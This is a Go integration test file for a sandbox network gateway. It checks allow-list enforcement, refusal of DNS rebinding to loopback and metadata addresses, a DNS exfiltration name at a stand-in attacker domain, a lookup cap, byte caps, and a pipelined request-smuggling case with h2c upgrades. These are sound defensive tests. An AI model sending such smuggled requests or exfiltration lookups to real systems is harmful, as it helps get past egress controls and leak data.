//go:build integration

package gateway

import (
	"bufio"
	"context"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/netip"
	"os"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/miekg/dns"
	promtest "github.com/prometheus/client_golang/prometheus/testutil"

	"github.com/sandboxd/sandboxd/internal/testutil"
	"github.com/sandboxd/sandboxd/netpolicy"
)

// get sends one HTTP request on c, whose first line is line and whose Host
// is host, and returns the status and body.
func get(c net.Conn, line, host string) (int, string, error) {
	defer c.Close()
	c.SetDeadline(time.Now().Add(10 * time.Second))
	if _, err := fmt.Fprintf(c, "%s HTTP/1.1\r\nHost: %s\r\nConnection: close\r\n\r\n", line, host); err != nil {
		return 0, "", err
	}
	resp, err := http.ReadResponse(bufio.NewReader(c), nil)
	if err != nil {
		return 0, "", err
	}
	defer resp.Body.Close()
	b, err := io.ReadAll(resp.Body)
	return resp.StatusCode, string(b), err
}

// serveHTTP serves body on the test host at port.
func serveHTTP(t *testing.T, h *testutil.Host, port int, body string) {
	lis := h.Listen(t, port)
	srv := &http.Server{Handler: http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) { io.WriteString(w, body) })}
	go srv.Serve(lis)
	t.Cleanup(func() { srv.Close() })
}

func TestGatewayEnforcesThePolicy(t *testing.T) {
	allowed, other := testutil.NewHost(t), testutil.NewHost(t)
	allowedAddr, _ := netip.AddrFromSlice(allowed.Addr.To4())
	otherAddr, _ := netip.AddrFromSlice(other.Addr.To4())
	g := startGateway(t, map[string]netip.Addr{"pkgs.test": allowedAddr, "other.test": otherAddr})
	serveHTTP(t, allowed, 8080, "allowed")
	serveHTTP(t, other, 8080, "other")
	serveHTTP(t, other, 9000, "by range")
	tk := newTask(t, g)
	policy := netpolicy.Policy{Mode: netpolicy.AllowList, Rules: []netpolicy.Rule{
		{Host: "pkgs.test", Ports: []uint16{8080}},
		{CIDR: otherAddr.String() + "/32", Ports: []uint16{9000}},
	}, Caps: netpolicy.Caps{BytesOut: 1 << 20, BytesIn: 1 << 20, Connections: 100}}
	s, err := g.Bind(tk.addr, policy)
	if err != nil {
		t.Fatal(err)
	}
	gw := g.Addr().String()

	// DNS: the allowed name resolves to its host; another gets REFUSED.
	r, err := tk.lookup(t, gw+":53", "pkgs.test")
	if err != nil || r.Rcode != dns.RcodeSuccess || len(r.Answer) != 1 || r.Answer[0].(*dns.A).A.String() != allowedAddr.String() {
		t.Fatalf("pkgs.test: %v %v", r, err)
	}
	// Any DNS server the task names is the stub.
	if r, err := tk.lookup(t, otherAddr.String()+":53", "other.test"); err != nil || r.Rcode != dns.RcodeRefused {
		t.Fatalf("other.test through another server: %v %v, want REFUSED", r, err)
	}

	for _, tt := range []struct {
		name       string
		addr, line string
		host       string
		status     int
		body       string
	}{
		{"by the proxy", gw + ":3128", "GET http://pkgs.test:8080/", "pkgs.test:8080", 200, "allowed"},
		{"by the proxy, a name not allowed", gw + ":3128", "GET http://other.test:8080/", "other.test:8080", 403, ""},
		{"by the proxy, an address not allowed", gw + ":3128", "GET http://" + otherAddr.String() + ":8080/", "", 403, ""},
		{"transparent", allowedAddr.String() + ":8080", "GET /", "pkgs.test", 200, "allowed"},
		{"transparent, a forged Host", otherAddr.String() + ":8080", "GET /", "pkgs.test", 403, ""},
		{"transparent, by range", otherAddr.String() + ":9000", "GET /", "whatever", 200, "by range"},
	} {
		c, err := tk.dial(tt.addr)
		if err != nil {
			t.Fatalf("%s: dial %s: %v", tt.name, tt.addr, err)
		}
		status, body, err := get(c, tt.line, tt.host)
		if err != nil || status != tt.status || (tt.body != "" && body != tt.body) {
			t.Errorf("%s: %d %q %v, want %d %q", tt.name, status, body, err, tt.status, tt.body)
		}
	}
	// A port no rule allows is refused at once: the kernel resets the SYN.
	if _, err := tk.dial(allowedAddr.String() + ":22"); err == nil || !strings.Contains(err.Error(), "refused") {
		t.Errorf("port 22: %v, want connection refused", err)
	}
	sum := s.End()
	if sum.Connections == 0 || sum.Denied == 0 || len(sum.Events) == 0 {
		t.Fatalf("summary %+v", sum)
	}
	counted := map[[2]string]int{}
	for _, e := range sum.Events {
		if !e.Allowed && e.Reason == "" {
			t.Errorf("refused event without a reason: %+v", e)
		}
		counted[[2]string{e.Kind, map[bool]string{true: "allowed", false: "denied"}[e.Allowed]}]++
	}
	// The metrics count every decision the task's log holds.
	for _, kind := range []string{"dns", "connect"} {
		for _, decision := range []string{"allowed", "denied"} {
			got := promtest.ToFloat64(g.decisions.WithLabelValues(kind, decision))
			if want := counted[[2]string{kind, decision}]; int(got) != want || want == 0 {
				t.Errorf("sandboxd_egress_decisions_total{kind=%q,decision=%q} = %v, the log has %d", kind, decision, got, want)
			}
		}
	}
	// Unbound, the task gets nothing.
	if c, err := tk.dial(allowedAddr.String() + ":8080"); err == nil {
		if status, _, err := get(c, "GET /", "pkgs.test"); err == nil && status == 200 {
			t.Error("an unbound task reached an allowed host")
		}
	}
}

// TestGatewayDNSAsksUpstreamOnlyForAllowedNames checks the stub: a name no
// rule allows is refused without any upstream query; an allowed name that
// resolves to loopback, to metadata or to a private range no rule names
// (rebinding) gets no answer, and a connection to it is refused.
func TestGatewayDNSAsksUpstreamOnlyForAllowedNames(t *testing.T) {
	testutil.RequireRoot(t)
	h := testutil.NewHost(t)
	hAddr, _ := netip.AddrFromSlice(h.Addr.To4())
	res := &testutil.Resolver{Names: map[string][]netip.Addr{
		"good.example.org":   {hAddr},
		"rebind.example.org": {netip.MustParseAddr("127.0.0.1"), netip.MustParseAddr("169.254.169.254"), netip.MustParseAddr("10.1.2.3")},
	}}
	dir := t.TempDir()
	o := netpolicy.DefaultOperator()
	g, err := Start(context.Background(), Config{Instance: fmt.Sprintf("gwdns%d", os.Getpid()), RunDir: dir,
		Subnet: netip.MustParsePrefix("100.79.1.0/24"), Operator: o, Resolver: res, Log: testutil.Logger(t, 0)})
	if err != nil {
		t.Fatal(err)
	}
	defer g.Close()
	serveHTTP(t, h, 8080, "good")
	tk := newTask(t, g)
	s, err := g.Bind(tk.addr, netpolicy.Policy{Mode: netpolicy.AllowList, Rules: []netpolicy.Rule{{Host: "*.example.org", Ports: []uint16{8080}}},
		Caps: netpolicy.Caps{BytesOut: 1 << 20, BytesIn: 1 << 20, Connections: 100}})
	if err != nil {
		t.Fatal(err)
	}
	defer s.End()
	gw := g.Addr().String() + ":53"
	if r, err := tk.lookup(t, gw, "exfil-0123456789.attacker.test"); err != nil || r.Rcode != dns.RcodeRefused {
		t.Fatalf("a name no rule allows: %v %v, want REFUSED", r, err)
	}
	if res.WasAsked("exfil-0123456789.attacker.test") {
		t.Fatal("the stub asked upstream for a name no rule allows")
	}
	if r, err := tk.lookup(t, gw, "good.example.org"); err != nil || len(r.Answer) != 1 {
		t.Fatalf("good.example.org: %v %v", r, err)
	}
	if r, err := tk.lookup(t, gw, "rebind.example.org"); err != nil || len(r.Answer) != 0 {
		t.Fatalf("rebind.example.org: %v %v, want no address answered", r, err)
	}
	// Through the proxy, the rebinding name is refused after resolution.
	c, err := tk.dial(g.Addr().String() + ":3128")
	if err != nil {
		t.Fatal(err)
	}
	if status, body, _ := get(c, "GET http://rebind.example.org:8080/", "rebind.example.org:8080"); status != 403 || !strings.Contains(body, "127.0.0.1") && !strings.Contains(body, "private") && !strings.Contains(body, "link-local") {
		t.Fatalf("rebind through the proxy: %d %q, want 403 naming the address", status, body)
	}
	c, err = tk.dial(g.Addr().String() + ":3128")
	if err != nil {
		t.Fatal(err)
	}
	if status, body, err := get(c, "GET http://good.example.org:8080/", "good.example.org:8080"); status != 200 || body != "good" {
		t.Fatalf("good through the proxy: %d %q %v", status, body, err)
	}

	// Every sub-label of the wildcard reaches upstream: a channel out,
	// capped at MaxLookups distinct names, each one in the record.
	for i := 0; res.Distinct() < MaxLookups; i++ {
		if _, err := tk.lookup(t, gw, fmt.Sprintf("chunk%d.example.org", i)); err != nil {
			t.Fatal(err)
		}
	}
	if r, err := tk.lookup(t, gw, "onemore.example.org"); err != nil || r.Rcode != dns.RcodeRefused || res.WasAsked("onemore.example.org") {
		t.Fatalf("a name past the cap: %v %v, want REFUSED without asking upstream", r, err)
	}
	if r, err := tk.lookup(t, gw, "good.example.org"); err != nil || len(r.Answer) != 1 {
		t.Fatalf("a name looked up before the cap: %v %v, want it answered still", r, err)
	}
	capped := 0
	for _, e := range s.End().Events {
		if strings.Contains(e.Reason, "distinct names resolved") {
			capped++
		}
	}
	if capped != 1 {
		t.Errorf("%d events say the lookup cap, want 1", capped)
	}
}

// TestGatewayCapsAndLoad checks the byte cap (the transfer stops and the
// event says why) and 200 concurrent connections from 8 tasks.
func TestGatewayCapsAndLoad(t *testing.T) {
	h := testutil.NewHost(t)
	hAddr, _ := netip.AddrFromSlice(h.Addr.To4())
	g := startGateway(t, map[string]netip.Addr{"big.test": hAddr})
	big := strings.Repeat("x", 4<<20)
	serveHTTP(t, h, 8080, big)
	policy := func(in int64) netpolicy.Policy {
		return netpolicy.Policy{Mode: netpolicy.AllowList, Rules: []netpolicy.Rule{{Host: "big.test", Ports: []uint16{8080}}},
			Caps: netpolicy.Caps{BytesOut: 1 << 20, BytesIn: in, Connections: 1000}}
	}
	capped := newTask(t, g)
	s, err := g.Bind(capped.addr, policy(1<<20))
	if err != nil {
		t.Fatal(err)
	}
	c, err := capped.dial(hAddr.String() + ":8080")
	if err != nil {
		t.Fatal(err)
	}
	if _, body, _ := get(c, "GET /", "big.test"); len(body) >= len(big) {
		t.Fatalf("read %d bytes past a cap of 1 MiB", len(body))
	}
	sum := s.End()
	if len(sum.Events) != 1 || !strings.Contains(sum.Events[0].Reason, "cap") || sum.BytesIn > 2<<20 {
		t.Fatalf("events %+v, %d bytes in: want the cut recorded", sum.Events, sum.BytesIn)
	}

	serveHTTP(t, h, 8081, "small")
	var tasks []task
	for range 8 {
		tk := newTask(t, g)
		p := policy(1 << 30)
		p.Rules[0].Ports = []uint16{8081}
		s, err := g.Bind(tk.addr, p)
		if err != nil {
			t.Fatal(err)
		}
		defer s.End()
		tasks = append(tasks, tk)
	}
	var wg sync.WaitGroup
	errs := make(chan error, 200)
	for i := range 200 {
		wg.Add(1)
		go func() {
			defer wg.Done()
			c, err := tasks[i%8].dial(hAddr.String() + ":8081")
			if err != nil {
				errs <- err
				return
			}
			if status, body, err := get(c, "GET /", "big.test"); err != nil || status != 200 || body != "small" {
				errs <- fmt.Errorf("%d %q %v", status, body, err)
			}
		}()
	}
	wg.Wait()
	close(errs)
	for err := range errs {
		t.Error(err)
	}
}

// TestKeptAliveConnectionsCarryOneRequest is the third review's smuggling
// case: on a kept-alive connection to an allowed address, a second request
// with another Host reached the server, and the bundle recorded only the
// first. Each request now needs a connection of its own (the first is
// answered with Connection: close and nothing more is forwarded), so the
// second is checked, refused and recorded; h2c is refused both ways.
func TestKeptAliveConnectionsCarryOneRequest(t *testing.T) {
	front := testutil.NewHost(t)
	frontAddr, _ := netip.AddrFromSlice(front.Addr.To4())
	g := startGateway(t, map[string]netip.Addr{"files.test": frontAddr, "other.test": frontAddr})
	// A shared front end: one address, virtual hosts by Host.
	lis := front.Listen(t, 8080)
	var mu sync.Mutex
	var seen []string
	srv := &http.Server{Handler: http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		mu.Lock()
		seen = append(seen, r.Host+r.URL.Path)
		mu.Unlock()
		io.WriteString(w, "served "+r.Host)
	})}
	go srv.Serve(lis)
	t.Cleanup(func() { srv.Close() })
	tk := newTask(t, g)
	s, err := g.Bind(tk.addr, netpolicy.Policy{Mode: netpolicy.AllowList, Rules: []netpolicy.Rule{{Host: "files.test", Ports: []uint16{8080}}},
		Caps: netpolicy.Caps{BytesOut: 1 << 20, BytesIn: 1 << 20, Connections: 100}})
	if err != nil {
		t.Fatal(err)
	}

	c, err := tk.dial(frontAddr.String() + ":8080")
	if err != nil {
		t.Fatal(err)
	}
	c.SetDeadline(time.Now().Add(10 * time.Second))
	fmt.Fprintf(c, "GET /a HTTP/1.1\r\nHost: files.test\r\n\r\nGET /b HTTP/1.1\r\nHost: other.test\r\n\r\n")
	br := bufio.NewReader(c)
	resp, err := http.ReadResponse(br, nil)
	if err != nil {
		t.Fatal(err)
	}
	body, _ := io.ReadAll(resp.Body)
	if resp.StatusCode != 200 || string(body) != "served files.test" || !resp.Close {
		t.Fatalf("the first request: %d %q close=%v", resp.StatusCode, body, resp.Close)
	}
	if _, err := http.ReadResponse(br, nil); err == nil {
		t.Fatal("a second response came on the same connection")
	}
	c.Close()
	// The client's retry of /b on a new connection is refused.
	c2, err := tk.dial(frontAddr.String() + ":8080")
	if err != nil {
		t.Fatal(err)
	}
	if status, _, err := get(c2, "GET /b", "other.test"); err != nil || status != 403 {
		t.Fatalf("/b for other.test on its own connection: %d %v, want 403", status, err)
	}
	// h2c: the upgrade is refused, and so is the preface.
	c3, _ := tk.dial(frontAddr.String() + ":8080")
	c3.SetDeadline(time.Now().Add(10 * time.Second))
	fmt.Fprintf(c3, "GET / HTTP/1.1\r\nHost: files.test\r\nConnection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABkAAQCAAAAAAIAAAAA\r\n\r\n")
	if resp, err := http.ReadResponse(bufio.NewReader(c3), nil); err != nil || resp.StatusCode != 403 {
		t.Fatalf("an h2c upgrade: %v %v, want 403", resp, err)
	}
	c3.Close()
	c4, _ := tk.dial(frontAddr.String() + ":8080")
	c4.SetDeadline(time.Now().Add(10 * time.Second))
	io.WriteString(c4, h2Preface)
	if n, _ := c4.Read(make([]byte, 1)); n != 0 {
		t.Fatal("the h2c preface got an answer")
	}
	c4.Close()

	sum := s.End()
	mu.Lock()
	defer mu.Unlock()
	if strings.Join(seen, " ") != "files.test/a" {
		t.Errorf("the server saw %v, want files.test/a alone", seen)
	}
	var refused []string
	for _, e := range sum.Events {
		if !e.Allowed {
			refused = append(refused, e.Name+" "+e.Via+": "+e.Reason)
		}
	}
	if len(refused) != 3 || !strings.Contains(refused[0], "other.test") || !strings.Contains(refused[1], "h2c") || !strings.Contains(refused[2], "h2c") {
		t.Errorf("refusals recorded: %q, want other.test then the two h2c", refused)
	}
}
